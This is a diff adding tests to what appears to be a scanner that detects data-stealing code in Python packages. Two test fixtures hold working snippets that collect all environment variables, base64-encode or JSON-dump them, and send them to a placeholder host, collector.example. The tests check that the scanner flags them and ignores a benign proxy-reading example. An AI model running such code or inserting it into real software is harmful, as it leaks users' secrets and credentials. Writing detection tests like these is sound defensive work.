@@ -118,3 +118,38 @@ def test_findings_in_tests_and_docs_weigh_little() -> None:
     assert ids(in_tests) == ids(shipped)
     assert all(f.severity is Severity.LOW for f in in_tests)
     assert score(in_tests).verdict is not Verdict.MALICIOUS
+
+
+def test_environment_walked_into_a_hard_coded_url() -> None:
+    bad = py(
+        "import requests, base64\n"
+        "from os import environ\n"
+        "class Ctx(dict):\n"
+        "    def __init__(self):\n"
+        "        self.send()\n"
+        "    def send(self):\n"
+        "        s = ''\n"
+        "        for _, value in environ.items():\n"
+        "            s += value + ' '\n"
+        "        requests.get('https://collector.example/h/' + base64.b64encode(s.encode()).decode())\n"
+    )
+    combo = [f for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"]
+    assert combo
+    assert combo[0].severity is Severity.HIGH
+    benign = py(
+        "import os, requests\n"
+        "def proxies(url):\n"
+        "    found = {k: v for k, v in os.environ.items() if k.lower().endswith('_proxy')}\n"
+        "    return requests.get(url, proxies=found)\n"
+    )
+    assert "PV-EXF-COMBO" not in ids(run(ALL, benign))
+
+
+def test_environment_as_a_field_of_collected_data() -> None:
+    bad = py(
+        "import os, json\n"
+        "from urllib import request\n"
+        "data = json.dumps({'host': os.uname(), 'ev': str(os.environ), 'c': os.getcwd()})\n"
+        "request.urlopen(request.Request('https://collector.example/r?d=' + data))\n"
+    )
+    assert "PV-SEC-ENVDUMP" in ids(run(ALL, bad))
